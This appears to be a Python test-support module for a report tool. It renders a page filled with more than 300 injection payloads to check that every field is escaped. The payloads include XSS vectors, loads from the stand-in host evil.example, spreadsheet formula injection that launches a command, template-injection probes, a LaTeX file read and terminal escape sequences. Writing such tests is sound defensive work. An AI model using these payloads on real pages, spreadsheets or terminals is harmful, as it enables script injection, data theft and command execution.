"""Texts that try to be more than text: more than 300 payloads in families, the same each time.

Those that a naive page would run set ``window.owned`` or ask for something from evil.example.
"""

from trilemma.analysis.claims import Claim
from trilemma.report import write_report
from trilemma.words import clean, encodable, shortened

RUN = "window.owned=1"
EVIL = "https://evil.example/x"

TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "b", "p")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "https://evil.example/")
CARRIERS = ('<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '" href="{}', "[x]({})")

FAMILIES = {
    "script": [
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<script >{RUN}</script >",
        f"<script\n>{RUN}</script>",
        f"<script/x>{RUN}</script>",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</script>",
        f"<script src={EVIL}></script>",
        "<script src=//evil.example/x></script>",
        f"<script type=module>{RUN}</script>",
        f"<script>{RUN}<!--",
        f"<script>{RUN}",
        f"</script><script>{RUN}</script>",
        f"<scr\x00ipt>{RUN}</script>",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"％3Cscript％3E{RUN}",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}",
        f"＜script＞{RUN}＜/script＞",
    ],
    "event handlers": [f"<{tag} {event}={RUN}>" for tag in TAGS for event in EVENTS],
    "out of an attribute": [
        f"{quote}{closing}{event}={RUN} x={quote}"
        for quote in ('"', "'", "`", "")
        for closing in (" ", "><img src=x ", "/><svg ")
        for event in ("onload", "onerror")
    ],
    "SVG and MathML": [
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href={EVIL} /></svg>",
        f"<svg><a href='javascript:{RUN}'><text>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributeName=x>",
        f"<svg><image href={EVIL} /></svg>",
        f"<svg><use href='{EVIL}#x' /></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><desc><script>{RUN}</script></desc></svg>",
        f"</text><script>{RUN}</script>",
        f"</svg><img src=x onerror={RUN}>",
        f"]]><script>{RUN}</script>",
        f"<math><maction actiontype='statusline#{EVIL}'>x</maction></math>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<math><annotation-xml encoding='text/html'><script>{RUN}</script>",
    ],
    "entities": [
        *("&lt;b&gt;", "&amp;lt;", "&#60;b&#62;", "&#x3c;script&#x3e;", "&lt", "&", "&&amp;", "&nosuch;", "&copy=1"),
        *("&#0;", "&#xD800;", "&#99999999;", "&quot; onload=x", "&#39;", "&Tab;&NewLine;", "&apos;"),
    ],
    "styles": [
        f"<style>@import '{EVIL}';</style>",
        f"<style>*{{background:url({EVIL})}}</style>",
        "</style><style>body{display:none}</style>",
        f"<link rel=stylesheet href={EVIL}>",
        f"<div style='background:url({EVIL})'>x</div>",
        f'" style="background:url({EVIL})',
        f"x;background:url({EVIL})",
        "expression(alert(1))",
        "}body{display:none}",
        "*/body{display:none}/*",
        f"url({EVIL})",
        f"@import url({EVIL})",
        "<div style=position:fixed;inset:0>x</div>",
        "var(--ink)}",
    ],
    "URLs": [carrier.format(f"{scheme}{RUN}") for carrier in CARRIERS for scheme in SCHEMES],
    "other elements": [
        *("</title>", "</style>", "</script>", "</textarea>", "</table>", "</pre>", "</details>", "-->", "<!--"),
        *("<!-- x --!>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<plaintext>", "<xmp>"),
        f"<base href={EVIL}>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<form action={EVIL}><button autofocus>x</button></form>",
        f"<object data={EVIL}></object>",
        f"<embed src={EVIL}>",
        f"<link rel=prefetch href={EVIL}>",
        f"<template shadowrootmode=open><script>{RUN}</script></template>",
        f"<portal src={EVIL}>",
        "<a id=main name=main>",
    ],
    "templates": [
        *("{{ 7 * 7 }}", "{% for x in (1, 2) %}x{% endfor %}", "{# gone #}", "{{ config }}", "{{ style }}", "{{"),
        *("{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include 'page.css' %}", "${7 * 7}", "#{7 * 7}", "<%= 7 %>"),
        *("{0}", "{name}", "%s", "%(x)s", "%n%n%n", "{task.total}"),
    ],
    "mathematics": [
        *("$x$", "$\\frac{1}{0}$", "$", "$$", "\\$x$", "$\\nosuch$", "$x^{2}$", "$\\sqrt{$", "a$b$c", "\\(x\\)"),
        *("$\\mathdefault{x}$", "\\input{/etc/hostname}", "$<b>x</b>$", "\\\\", "$_$"),
    ],
    "control and direction": [
        *(f"a{c}b" for c in "\x00\x01\x08\t\n\x0b\x0c\r\x1f\x7f\x85\u2028\u2029\ufeff\u00ad\u200b\u200d"),
        *(f"a{c}gnp.exe" for c in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"),
        "\u2067\u2066\u2069",
    ],
    "formulas": [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "－1+1", "＋1+1", "＠A1"),
        *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/x")', '=WEBSERVICE("https://evil.example/x")'),
        *("x\r=1+1", "x\n=1+1", 'x",=1+1', '",=1+1,"', "'=1+1", '"=1+1"', "-x", "+", "=", "--1", "\x00=1+1"),
    ],
    "escape sequences": [
        *("\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example/x\x1b\\x\x1b]8;;\x1b\\"),
        *("\x1b]52;c;b3duZWQ=\x07", "\x1bc", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x9b31mred", "\x9d0;title\x9c", "\x1b"),
        *(
            "\x1b[1A\x1b[2K",
            "ok\rFAILED",
            "ok\x08\x08no",
            "\x07\x07",
            "\x1b[?1049h",
            "\x1b(0lqk",
            "\x1b]1337;File=:\x07",
        ),
    ],
    "terminal markup": [
        *("[bold]x[/]", "[red on white]x[/red on white]", "[link=https://evil.example/x]x[/link]", "[/]", "[/bold]"),
        *("[", "[[", ":boom:", ":warning: x", "\\[bold]x"),
    ],
    "size and Unicode": [
        *("x" * 3000, "<b>" * 500, "\udcff", "\ud800x", "\udfff\ud800", "\uffff", "\U0010ffff", "\ue000"),
        *("Z" + "\u0337\u0353" * 60, "مرحبا", "名前", "👩\u200d🔬", "\ufdfd", "İı", "ﬃ", "e\u0301"),
    ],
}

PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family)

CHUNKS = [PAYLOADS[start : start + 112] for start in range(0, len(PAYLOADS), 112)]
"""What one page takes: it has a row for each, and a column."""

FIELDS = {
    "data": lambda text: shortened(clean(text), 32),
    "target": lambda text: shortened(clean(text), 24),
    "group": clean,
    "model": clean,
    "provenance": clean,
    "title": clean,
    "about": clean,
    "note": clean,
    "label": clean,
    "failure": clean,
    "file": clean,
    "source": clean,
    "sentence": clean,
    "device": clean,
}
"""Fields of the page that come from outside, and what of a text is shown there."""


def placed(payload, field, index):
    """The payload, so marked that its place on the page is found."""
    return f"{payload}~{field}{index}~"


def results_of(made):
    """The results, as ``collect`` returns them."""
    made.rows = [{k: encodable(v) if isinstance(v, str) else v for k, v in row.items()} for row in made.rows]
    return made.results


def hostile_page(made, folder, payloads):
    """A page with every payload in every field."""
    made.new_study("all", "All", [], seeds=(0,))
    groups = [placed(payload, "group", index) for index, payload in enumerate(payloads)]
    for index, payload in enumerate(payloads):
        data = {"name": placed(payload, "data", index), "target": placed(payload, "target", index), "protected": "p"}
        recipe = {name: placed(payload, name, index) for name in ("model", "provenance")}
        made.trial(data, 0, groups=groups if index == 0 else (), **recipe)
    for index, payload in enumerate(payloads):
        made.new_study(f"{payload}~{index}", placed(payload, "title", index), [], placed(payload, "about", index))
    listed = {f: [placed(payload, f, index) for index, payload in enumerate(payloads)] for f in FIELDS}
    unfinished = [f"lost{index}" for index in range(len(payloads))]
    for trial in unfinished:
        made.study["trials"][trial] = {"recipe": {"seed": 1}, "data": {"name": "d"}}
    trial = {"id": "a", "epsilon": 1.0, "delta": 1e-5, "chosen_by": None}
    ledger_trials = [trial | {"label": text} for text in listed["label"]]
    return write_report(
        folder,
        results_of(made),
        made.study,
        comparison_notes=listed["note"],
        failures=dict(zip(unfinished, listed["failure"], strict=True)),
        ledger={"paragraphs": [], "families": [{"family": "f", "trials": ledger_trials}]},
        claims=[
            Claim("n", source, "a statement", "cannot tell", sentence)
            for source, sentence in zip(listed["source"], listed["sentence"], strict=True)
        ],
        commands=[f"trilemma report {text}" for text in listed["file"]],
        environment={f"device {index}": text for index, text in enumerate(listed["device"])},
    )
